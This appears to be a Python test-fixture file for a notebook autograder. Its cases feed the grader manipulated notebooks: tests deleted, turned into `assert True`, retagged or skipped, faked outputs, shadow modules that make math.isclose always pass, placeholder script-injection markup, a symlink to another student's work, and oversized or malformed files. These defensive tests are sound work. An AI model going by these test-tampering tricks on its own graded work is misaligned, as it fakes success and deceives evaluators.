# --- the notebook


def _delete(notebook: NotebookNode) -> None:
    notebook.cells = [cell for cell in notebook.cells if not is_test(cell)]


def _pass(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.source = "assert True"


def _duplicate(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        twin = copy.deepcopy(cell)
        twin.source, twin.id = "5.0", f"twin-{cell.id}"
        notebook.cells.append(twin)


def _retag(notebook: NotebookNode) -> None:
    changes: list[dict[str, object]] = [{"grade": False}, {"points": 1000}, {"solution": True}, {"locked": False}]
    for number, cell in enumerate(_tests(notebook)):
        cell.metadata.nbgrader.update(changes[number % 4])
        cell.source = "5.0"


def _skip(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata.tags = ["skip-execution"]


def _as_text(notebook: NotebookNode) -> None:
    notebook.cells = [
        nbformat.v4.new_raw_cell("passed", metadata=cell.metadata, id=cell.id) if is_test(cell) else cell
        for cell in notebook.cells
    ]


def _outputs(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "5.0"}, execution_count=1)]


def _rename_ids(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if grade_id(cell):
            cell.metadata.nbgrader.grade_id = f"my-{grade_id(cell)}"


def _strip(notebook: NotebookNode) -> None:
    for number, cell in enumerate(notebook.cells):
        cell.metadata = NotebookNode()
        cell.id = f"lost-{number}"


def _own_imports(notebook: NotebookNode) -> None:
    source = "class math:\n    isclose = staticmethod(lambda *args, **kwargs: True)"
    _cell(notebook, "arithmetic-imports").source = source


def _many_cells(notebook: NotebookNode) -> None:
    notebook.cells += [nbformat.v4.new_code_cell("import time; time.sleep(0.1)") for _ in range(400)]


def _many_outputs(notebook: NotebookNode) -> None:
    notebook.cells += [nbformat.v4.new_code_cell("print('x' * 1_000_000)") for _ in range(20)]


def _odd_metadata(notebook: NotebookNode) -> None:
    notebook.cells[0].metadata.nbgrader = ["not", "a", "dict"]
    _cell(notebook, "add").metadata.nbgrader.grade_id = ["add"]
    _cell(notebook, "double").metadata.nbgrader.schema_version = 99
    notebook.metadata = NotebookNode(kernelspec="none", language_info=[1])


def _script(notebook: NotebookNode) -> None:
    mark = "<script>/* llmlabs-hostile-script */</script>"
    bundles = [{kind: f"'\">{mark}"} for kind in ("image/png", "image/svg+xml", "text/latex", "text/markdown", "x/y")]
    code = f"""
from IPython.display import HTML, Javascript, display, publish_display_data
display(HTML({mark!r}), Javascript({mark[8:-9]!r}))
for bundle in {bundles!r}:
    publish_display_data(bundle)
print({mark!r})
raise ValueError({mark!r})
"""
    notebook.cells.append(nbformat.v4.new_code_cell(code))
    notebook.cells.append(nbformat.v4.new_markdown_cell(f"{mark}<img src=x onerror='/* llmlabs-hostile-script */'>"))


def _written(notebook: NotebookNode) -> str:
    return nbformat.writes(notebook)


def _older(notebook: NotebookNode) -> bytes:
    return json.dumps(nbformat.convert(notebook, 3)).encode()


def right(name: str, attempts: str, says: str = "", **how: object) -> Case:
    """A case with right answers in a notebook that was damaged: all points are due."""
    return Case(name, attempts, FULL, says, answers=RIGHT, **how)  # type: ignore[arg-type]


def broken(name: str, attempts: str, says: str, **how: object) -> Case:
    """A case that no grade can come of, but a note."""
    return Case(name, attempts, NOTHING, says, answers=RIGHT, **how)  # type: ignore[arg-type]


def cheat(name: str, attempts: str, edit: Callable[[NotebookNode], None], says: str = "") -> Case:
    """A case with wrong answers in a notebook that was edited."""
    return Case(name, attempts, NOTHING, says, answers=WRONG, edit=edit)


ACCENT = "# caf\u00e9\n"
NOTEBOOKS = [
    cheat("deleted-tests", "Deletes the test cells.", _delete, "was missing: added back"),
    cheat("edited-tests", "Replaces every test by `assert True`.", _pass, "had been changed: restored"),
    cheat("duplicated-tests", "Adds a copy of every test that ends in 5.", _duplicate, "was dropped"),
    cheat("retagged-tests", "Makes tests ungraded, worth 1000 points, answers, or unlocked.", _retag),
    cheat("skip-tags", "Tags every test skip-execution.", _skip),
    cheat("tests-as-text", "Turns the test cells into raw cells.", _as_text),
    cheat("ready-outputs", "Hands the tests in with outputs that show points.", _outputs),
    cheat("own-imports", "Replaces the locked imports by a math of its own.", _own_imports, "restored"),
    Case(
        "shadow-modules",
        "Puts math.py, json.py, numpy.py and sitecustomize.py beside the notebook.",
        answers=WRONG,
        files={
            f"{name}.py": "import builtins\nisclose = lambda *args, **kwargs: True\n"
            for name in ("math", "json", "numpy", "sitecustomize", "llmlabs")
        },
    ),
    right(
        "reordered-cells",
        "Puts the cells in the opposite order.",
        "had been moved",
        edit=lambda notebook: notebook.cells.reverse(),
    ),
    right("renamed-ids", "Changes every grade_id.", edit=_rename_ids),
    right("stripped-metadata", "Loses all metadata and all cell ids.", "was missing: added back", edit=_strip),
    right(
        "duplicated-answers",
        "Adds a wrong copy of an answer above the right one.",
        "answered more than once",
        edit=lambda notebook: notebook.cells.insert(
            2, nbformat.from_dict({**copy.deepcopy(_cell(notebook, "add")), "id": "twin", "source": WRONG["add"]})
        ),
    ),
    right("odd-metadata", "Has lists and numbers where metadata should be.", edit=_odd_metadata),
    right(
        "other-kernel",
        "Names a kernel of another language.",
        edit=lambda notebook: notebook.metadata.update(
            kernelspec={"name": "ir", "display_name": "R", "language": "R"}, language_info={"name": "R"}
        ),
    ),
    right("older-format", "Is written in nbformat 3.", raw=_older),
    right("renamed-file", "Is called `arithmetic (1).ipynb`.", "was taken as", file="arithmetic (1).ipynb"),
    right("extra-notebook", "Has another notebook beside it.", "is not a lab", files={"notes.ipynb": "{}"}),
    right(
        "latin-1",
        "Is encoded in Latin-1.",
        raw=lambda notebook: _written(notebook).replace("# Arithmetic", "# caf\u00e9").encode("latin-1"),
    ),
    right("utf-16", "Is encoded in UTF-16.", raw=lambda notebook: _written(notebook).encode("utf-16")),
    right(
        "lone-surrogates",
        "Has half of a character pair, which no encoding can hold, in its code and text.",
        raw=lambda notebook: (
            _written(notebook)
            .replace("# Arithmetic", "# \\ud800")
            .replace("def add(a, b):", "def add(a, b):  # \\ud800")
            .encode()
        ),
    ),
    right(
        "huge-metadata",
        "Carries 10 MB of metadata.",
        edit=lambda notebook: notebook.metadata.update(blob=["x" * 1000] * 10_000),
    ),
    right("many-cells", "Adds 400 cells that sleep, at the end.", "ended early", edit=_many_cells),
    right("many-outputs", "Adds 20 cells that print 1 MB each.", edit=_many_outputs),
    right("script", "Shows HTML with a script, and has one in its text.", edit=_script),
    broken("empty", "Is an empty file.", "the file is empty", raw=lambda notebook: b""),
    broken(
        "truncated", "Ends in the middle.", "no valid JSON", raw=lambda notebook: _written(notebook)[:2000].encode()
    ),
    broken("not-a-notebook", "Is a JSON list.", "JSON without nbformat", raw=lambda notebook: b"[1, 2]"),
    broken(
        "long-number",
        "Has a number of 5,000 digits for its format.",
        "could not be read",
        raw=lambda notebook: b'{"nbformat": ' + b"4" * 5000 + b', "cells": []}',
    ),
    broken(
        "long-number-renamed",
        "Has such a number, in a file of another name, which the grader has to look into.",
        "not handed in",
        raw=lambda notebook: b'{"nbformat": ' + b"4" * 5000 + b', "cells": []}',
        file="work.ipynb",
    ),
    broken(
        "deep", "Is nested a million deep.", "nested too deeply", raw=lambda notebook: b'{"nbformat": ' + b"[" * 10**6
    ),
    broken("too-large", "Has 30 MB.", "more than 20 MB", raw=lambda notebook: b" " * 30 * 2**20),
    broken(
        "link",
        "Is a symbolic link to another student's notebook.",
        "not an ordinary file",
        link=f"../../ada/{SECTION}/{LAB}.ipynb",
    ),
    right(
        "timestamp-future", "Brings its own timestamp.txt, of 2099.", files={"timestamp.txt": "2099-01-01 00:00:00 UTC"}
    ),
    right(
        "timestamp-past", "Brings its own timestamp.txt, of 1999.", files={"timestamp.txt": "1999-01-01 00:00:00 UTC"}
    ),
    right("timestamp-garbage", "Brings a timestamp.txt that is no time.", files={"timestamp.txt": "yesterday \x00"}),
]

CASES = [*VALUES, *KERNEL, *PATCHED, *REPLIES, *LOOKING, *HARM, *GAMING, *NOTEBOOKS]
